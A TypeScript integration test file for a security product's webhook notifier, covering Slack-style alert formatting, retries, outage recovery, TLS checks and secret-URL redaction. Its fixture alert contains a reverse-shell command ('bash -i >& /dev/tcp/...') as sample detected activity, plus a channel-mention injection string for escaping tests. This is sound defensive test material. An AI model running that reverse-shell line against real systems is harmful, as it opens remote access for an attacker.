import { readFileSync, rmSync } from "node:fs";
import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from "node:http";
import { createServer as createHttpsServer } from "node:https";
import type { AddressInfo } from "node:net";
import { Writable } from "node:stream";
import {
  alertsSubject,
  type Bus,
  connectNatsBus,
  createLogger,
  defaultStreams,
  type EcsDocument,
  type Logger,
} from "@vigil/common";
import { type NatsServerHandle, startNatsServer } from "../../../test/harness/nats-server";
import { createTestPki, type TestPki } from "../../../test/harness/test-certs";
import { waitFor } from "../../../test/harness/wait-for";
import { WebhookNotifier, type WebhookSettings } from "./webhook-notifier";

// The webhook notifier against real NATS (the alerts stream) and a loopback
// HTTP(S) receiver that records what it gets and fails on demand.

const SECRET_PATH = "/services/T000/B000/s3cr3t-webhook-token";

interface Receiver {
  url: string;
  bodies: Array<{ text: string; blocks: Array<Record<string, unknown>> }>;
  /** Answers for the next requests ("hang" never answers); then 200. */
  script: Array<number | "hang">;
  close(): Promise<void>;
}

async function startReceiver(tls?: TestPki): Promise<Receiver> {
  const receiver: Receiver = { url: "", bodies: [], script: [], close: async () => undefined };
  const handler = (request: IncomingMessage, response: ServerResponse) => {
    let body = "";
    request.on("data", (chunk) => {
      body += chunk;
    });
    request.on("end", () => {
      const next = receiver.script.shift() ?? 200;
      if (next === "hang") return;
      if (next === 200 && request.url === SECRET_PATH) receiver.bodies.push(JSON.parse(body));
      response.writeHead(next, next === 429 ? { "retry-after": "0" } : {}).end(next === 200 ? "ok" : "no");
    });
  };
  const server = tls
    ? createHttpsServer(
        { cert: readFileSync(tls.serverCertFile), key: readFileSync(tls.serverKeyFile) },
        handler,
      )
    : createHttpServer(handler);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  receiver.url = `${tls ? "https" : "http"}://127.0.0.1:${port}${SECRET_PATH}`;
  receiver.close = () =>
    new Promise((resolve) => {
      server.closeAllConnections();
      server.close(() => resolve());
    });
  return receiver;
}

function alertDocument(id: string, level: string, createdMs = Date.now()): EcsDocument {
  return {
    "@timestamp": new Date(createdMs).toISOString(),
    message: "Reverse shell: bash -i >& /dev/tcp/203.0.113.7/4444 by /usr/bin/bash on web-01",
    event: { kind: "alert", id, severity: 73, created: new Date(createdMs).toISOString() },
    rule: { id: "rule-1", name: "Reverse shell <@channel>" },
    host: { name: "web-01" },
    user: { name: "www-data" },
    process: {
      command_line: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
      parent: { executable: "/usr/sbin/nginx" },
    },
    vigil: { alert: { level, count: 3 } },
  };
}

describe("webhook notifier (real NATS, loopback receiver)", () => {
  let nats: NatsServerHandle;
  let bus: Bus;
  let receiver: Receiver;
  let logLines: string[];
  let logger: Logger;
  const notifiers: WebhookNotifier[] = [];
  let index = 0;

  beforeEach(async () => {
    index++;
    // A server per test: a new durable consumer reads the alerts stream from its start.
    nats = await startNatsServer();
    bus = await connectNatsBus({
      servers: [nats.url],
      name: "notify-test",
      logger: createLogger({ name: "bus", level: "silent" }),
    });
    await bus.ensureStreams(defaultStreams());
    receiver = await startReceiver();
    logLines = [];
    const destination = new Writable({
      write(chunk, _encoding, done) {
        logLines.push(String(chunk));
        done();
      },
    });
    logger = createLogger({ name: "notify", level: "debug", destination });
  });
  afterEach(async () => {
    for (const notifier of notifiers.splice(0)) await notifier.stop();
    await receiver.close();
    await bus.close();
    await nats.stop();
  });

  async function notifier(overrides: Partial<WebhookSettings> = {}): Promise<WebhookNotifier> {
    const started = new WebhookNotifier({
      bus,
      logger,
      redeliveryDelayMs: 100,
      webhook: {
        name: `test-${index}`,
        url: receiver.url,
        minLevel: "medium",
        timeoutMs: 500,
        maxAttempts: 3,
        retryBaseDelayMs: 20,
        maxAlertAgeMs: 3_600_000,
        linkTemplate: "https://kibana.example/app/security/alerts?id={id}",
        ...overrides,
      },
    });
    notifiers.push(started);
    await started.start();
    return started;
  }

  async function publish(id: string, level: "low" | "medium" | "high" | "critical", createdMs?: number) {
    await bus.publish(
      alertsSubject(level),
      Buffer.from(JSON.stringify(alertDocument(`${index}-${id}`, level, createdMs))),
      {
        msgId: `${index}-${id}`,
      },
    );
  }

  test("posts Slack-style JSON for alerts at or above minLevel, with rule, host, severity, process and link", async () => {
    const sent = await notifier({ minLevel: "high" });
    await publish("a", "low");
    await publish("b", "high");
    await publish("c", "critical");
    await waitFor(
      () => sent.counters.delivered + sent.counters.skipped >= 3 + index * 0,
      5000,
      "three alerts handled",
    );
    // Earlier tests' alerts are in the stream too; only this test's count here.
    const mine = receiver.bodies.filter((body) => JSON.stringify(body).includes(`alert ${index}-`));
    expect(mine.map((body) => body.text)).toEqual([
      "[HIGH] Reverse shell &lt;@channel&gt; on web-01",
      "[CRITICAL] Reverse shell &lt;@channel&gt; on web-01",
    ]);
    // plain_text (the header) shows markup literally; the mrkdwn parts must escape it.
    const body = JSON.stringify(mine[0]?.blocks.filter((block) => block.type !== "header"));
    for (const expected of [
      "*Rule*",
      "*Host*\\nweb-01",
      "high (73)",
      "bash -i &gt;&amp; /dev/tcp/203.0.113.7/4444",
      "/usr/sbin/nginx",
      "*Occurrences*\\n3",
    ]) {
      expect(body).toContain(expected);
    }
    // Attacker-chosen text cannot mention a channel.
    expect(body).not.toContain("<@channel>");
    expect(body).toContain(`https://kibana.example/app/security/alerts?id=${index}-b`);
  });

  test("retries 5xx, 429 and a timeout with backoff, then posts each alert once", async () => {
    receiver.script = [500, 429, "hang", 503];
    const sent = await notifier();
    await publish("a", "high");
    await waitFor(() => sent.counters.delivered >= 1, 8000, "alert delivered after failures");
    expect(receiver.bodies.length).toBe(1);
    expect(sent.counters.retries).toBeGreaterThanOrEqual(3);
    const logged = logLines.join("");
    expect(logged).toContain("webhook unreachable");
    expect(logged).toContain("no answer within 500 ms");
  });

  test("a receiver outage delays alerts and loses none; the URL never reaches the logs", async () => {
    const sent = await notifier({ maxAttempts: 1 });
    const url = receiver.url;
    await receiver.close();
    await publish("a", "high");
    await publish("b", "critical");
    await waitFor(() => logLines.join("").includes("webhook unreachable"), 5000, "failed posts");
    // The receiver comes back on the same port.
    const port = Number(new URL(url).port);
    const back = createHttpServer((request, response) => {
      let body = "";
      request.on("data", (chunk) => {
        body += chunk;
      });
      request.on("end", () => {
        receiver.bodies.push(JSON.parse(body));
        response.writeHead(200).end();
      });
    });
    await new Promise<void>((resolve) => back.listen(port, "127.0.0.1", resolve));
    try {
      await waitFor(() => sent.counters.delivered >= 2, 8000, "both alerts after the outage");
      expect(receiver.bodies.map((body) => body.text).sort()).toEqual([
        "[CRITICAL] Reverse shell &lt;@channel&gt; on web-01",
        "[HIGH] Reverse shell &lt;@channel&gt; on web-01",
      ]);
    } finally {
      back.closeAllConnections();
      await new Promise((resolve) => back.close(resolve));
    }
    const logged = logLines.join("");
    expect(logged).toContain(`"webhook":"test-${index}"`);
    expect(logged).not.toContain("s3cr3t-webhook-token");
  });

  test("a 4xx refusal is not retried; stale alerts (after a long outage) are skipped", async () => {
    receiver.script = [400];
    const sent = await notifier();
    await publish("a", "high");
    await publish("old", "high", Date.now() - 2 * 3_600_000);
    await waitFor(() => sent.counters.dropped + sent.counters.skipped >= 2, 5000, "refused and skipped");
    expect(sent.counters).toMatchObject({ dropped: 1, skipped: 1, delivered: 0 });
    expect(logLines.join("")).toContain("HTTP 400: no");
  });

  test("https with the receiver's CA; an unknown CA is a retried failure, not a silent success", async () => {
    const pki = createTestPki();
    await receiver.close();
    receiver = await startReceiver(pki);
    try {
      const trusted = await notifier({ caFile: pki.caFile });
      await publish("a", "high");
      await waitFor(() => trusted.counters.delivered >= 1, 5000, "posted over TLS");
      await trusted.stop();
      index++;
      const untrusted = await notifier({ caFile: pki.otherCaFile, maxAttempts: 1 });
      await publish("b", "high");
      await waitFor(
        () => logLines.join("").includes("UNABLE_TO_VERIFY_LEAF_SIGNATURE"),
        5000,
        "TLS refusal logged",
      );
      expect(untrusted.counters.delivered).toBe(0);
    } finally {
      rmSync(pki.dir, { recursive: true, force: true });
    }
  });

  test("a bad URL or CA file is a config error naming the webhook", () => {
    expect(
      () =>
        new WebhookNotifier({
          bus,
          logger,
          webhook: {
            name: "chat",
            url: "ftp://x",
            minLevel: "high",
            timeoutMs: 1,
            maxAttempts: 1,
            retryBaseDelayMs: 1,
            maxAlertAgeMs: 1,
          },
        }),
    ).toThrow("notify.webhooks[chat].url");
  });
});
